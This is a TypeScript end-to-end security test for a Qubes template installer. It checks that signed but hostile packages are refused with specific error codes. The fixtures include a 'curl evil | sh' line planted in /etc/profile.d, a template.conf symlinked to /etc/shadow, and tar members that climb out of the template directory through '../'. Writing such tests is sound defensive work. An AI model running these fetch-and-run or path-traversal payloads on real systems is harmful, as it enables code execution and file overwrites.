/**
 * Attack: a malicious packager who signs correctly ships a package no Qubes builder makes: files
 * outside /var/lib/qubes/vm-templates/NAME/ (in /etc/profile.d, /usr/bin, the installed
 * template's directory), an appmenu list that is a FIFO, an extra root.img.part.x, a
 * template.conf that is a symlink, or a root image tar whose member is `../../etc/x` or a GNU
 * long name climbing out. The signature holds, so only the layout check stops it: each is
 * refused with its own code and exit 1, no VM is created, the installed template's root volume
 * stays byte-identical. The upgrades refused at the image carry the builder's layout, which the
 * header check lets through. Symlinked directories, `/etc/x` members and the other cases are
 * unit-tested (test/orchestrator/template-layout.test.ts, image-stream.test.ts).
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Scenario, ScenarioTemplate } from '../../sim/scenario.ts';
import {
  CLI_TIMEOUT_MS,
  expectFailure,
  expectUntouched,
  MiB,
  runTmpl,
  smallTemplate,
  type Snapshot,
  attackWorld,
  closeAttackWorld,
  type AttackWorld,
} from '../helpers/e2e-world.ts';

const VICTIM = 'fedora-victim';
const TEMPLATES = '/var/lib/qubes/vm-templates';

/** A package for a new template name: refused at its header, so a tiny image does. */
function hostile(name: string, mutations: NonNullable<ScenarioTemplate['mutations']>): ScenarioTemplate {
  return smallTemplate(name, '4.2.0', '1', name, {
    image: { size: MiB, extents: [{ offset: 0, length: 4096, seed: name }] },
    mutations,
  });
}

/** An upgrade of the installed victim, release `release`. */
function victim(release: string, extra: Partial<ScenarioTemplate>): ScenarioTemplate {
  return smallTemplate(VICTIM, '4.2.0', release, `victim-${release}`, extra);
}

interface Attack {
  readonly what: string;
  readonly args: readonly string[];
  readonly code: string;
}

/** One run each (two disposables per run): the codes' finer cases are in the unit tests. */
const ATTACKS: readonly Attack[] = [
  {
    what: "files in /etc/profile.d, /usr/bin and the installed template's directory",
    args: ['install', 'evil-outside'],
    code: 'template.layout.outside',
  },
  {
    what: 'an appmenu list that is a FIFO',
    args: ['install', 'evil-fifo'],
    code: 'template.layout.file-type',
  },
  { what: 'an extra root.img.part.x', args: ['install', 'evil-part'], code: 'package.parts' },
  {
    what: 'an upgrade whose template.conf is a symlink',
    args: ['upgrade', '--yes', `${VICTIM}-4.2.0-2`],
    code: 'template.layout.file-type',
  },
  {
    what: "an upgrade whose image member is '../../etc/x'",
    args: ['upgrade', '--yes', `${VICTIM}-4.2.0-3`],
    code: 'template.image-name',
  },
  {
    what: 'an upgrade whose image member is a GNU long name climbing out',
    args: ['upgrade', '--yes', `${VICTIM}-4.2.0-4`],
    code: 'template.image-name',
  },
];

let world: AttackWorld | undefined;
let scenario: Scenario;
let before: Snapshot;

beforeAll(async () => {
  world = await attackWorld('tmpl-sec-layout-', {
    templates: [
      hostile('evil-outside', {
        extraFiles: [
          { path: '/etc/profile.d/evil.sh', kind: 'file', content: 'curl evil | sh\n' },
          { path: '/usr/bin/evil', kind: 'file', perms: 0o755, content: '#!/bin/sh\n' },
          { path: `${TEMPLATES}/${VICTIM}/root.img.part.00`, kind: 'file', content: 'evil' },
        ],
      }),
      hostile('evil-fifo', { replacedFiles: { 'whitelisted-appmenus.list': { kind: 'fifo' } } }),
      hostile('evil-part', {
        extraFiles: [{ path: `${TEMPLATES}/evil-part/root.img.part.x`, kind: 'file', content: 'x' }],
      }),
      victim('2', {
        mutations: { replacedFiles: { 'template.conf': { kind: 'symlink', linkTo: '/etc/shadow' } } },
      }),
      victim('3', { tarMemberName: '../../etc/x' }),
      victim('4', { tarMemberName: `${'../'.repeat(40)}etc/cron.d/root.img` }),
    ],
    planted: smallTemplate(VICTIM, '4.2.0', '1', 'planted'),
  });
  ({ scenario, before } = world);
}, 300_000);

afterAll(() => closeAttackWorld(world));

it(
  'each hostile layout is refused with its code and exit 1; nothing is created, the root volume stays',
  async () => {
    for (const attack of ATTACKS) {
      const run = await runTmpl(scenario, [...attack.args, '--skip-start', '--json']);
      expectFailure(run, attack.code);
      expect(run.exitCode, attack.what).toBe(1);
      await expectUntouched(scenario, before, VICTIM);
    }
  },
  ATTACKS.length * CLI_TIMEOUT_MS,
);
